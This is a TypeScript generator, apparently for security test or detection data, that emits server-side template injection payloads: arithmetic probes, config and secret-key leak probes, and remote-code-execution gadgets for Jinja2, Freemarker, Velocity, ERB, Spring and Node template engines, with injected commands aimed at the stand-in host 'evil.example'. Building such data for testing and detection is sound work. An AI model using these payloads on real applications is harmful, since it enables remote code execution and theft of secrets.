import type { PayloadSample } from '../payload-sample.js';
import type { Rng } from '../rng.js';
import { INJECTED_COMMANDS } from '../templates.js';
import { distinctSamples } from './distinct.js';

/** Template-engine probes and RCE gadgets for Jinja2, Twig, Freemarker, Velocity, ERB, Thymeleaf, Smarty, Handlebars-free engines. */
export function generateSsti(rng: Rng, count: number): PayloadSample[] {
  return distinctSamples('ssti', 'ssti', count, rng, (r) => {
    const a = r.int(2, 99);
    const b = r.int(2, 99);
    const cmd = r.pick(INJECTED_COMMANDS).replace(/\{H\}/g, 'evil.example').replace(/\{R\}/g, 'x');
    return r.weighted<() => string>([
      [
        () =>
          r.pick([
            `{{${a}*${b}}}`,
            `\${${a}*${b}}`,
            `<%= ${a}*${b} %>`,
            `#{${a}*${b}}`,
            `*{${a}*${b}}`,
            `{{${a}*'${b}'}}`,
            `@(${a}*${b})`,
            `{${a}*${b}}`,
            `[[${a}*${b}]]`,
            `{{= ${a}*${b} }}`,
            `\${{${a}*${b}}}`,
          ]),
        4,
      ],
      [
        () =>
          r.pick([
            '{{config}}',
            '{{config.items()}}',
            '{{self}}',
            '{{request.application}}',
            '{{settings.SECRET_KEY}}',
            '{{_self.env}}',
            '{{app.request.server.all|join(",")}}',
            '${product.getClass()}',
            '{{dump(app)}}',
            '<%= ENV.inspect %>',
          ]),
        2,
      ],
      [
        () =>
          `{{ ${r.pick(['self.__init__.__globals__.__builtins__.__import__', 'cycler.__init__.__globals__.os.popen', 'lipsum.__globals__["os"].popen', "''.__class__.__mro__[1].__subclasses__()[104].__init__.__globals__['sys'].modules['os'].popen", 'joiner.__init__.__globals__.os.popen', 'namespace.__init__.__globals__.os.popen'])}('${cmd}').read() }}`.replace(
            "__import__('",
            "__import__('os').popen('",
          ),
        3,
      ],
      [() => `{{['${cmd}']|filter('${r.pick(['system', 'exec', 'passthru'])}')}}`, 1],
      [() => `<#assign ex="freemarker.template.utility.Execute"?new()> \${ ex("${cmd}") }`, 1],
      [() => `#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("${cmd}"))`, 1],
      [() => `<%= \`${cmd}\` %>`, 1],
      [() => `<%= system("${cmd}") %>`, 1],
      [() => `\${T(java.lang.Runtime).getRuntime().exec('${cmd}')}`, 1],
      [() => `*{T(java.lang.Runtime).getRuntime().exec('${cmd}')}`, 0.5],
      [() => `{php}echo \`${cmd}\`;{/php}`, 0.5],
      [() => `{system('${cmd}')}`, 0.5],
      [() => `#{global.process.mainModule.require('child_process').execSync('${cmd}')}`, 0.5],
      [
        () =>
          `{{range.constructor("return global.process.mainModule.require('child_process').execSync('${cmd}')")()}}`,
        0.5,
      ],
      [() => `${r.pick(['', 'Hello ', 'test', 'John'])}{{${a}*${b}}}${r.pick(['', ' world', 'x'])}`, 1],
    ])();
  });
}
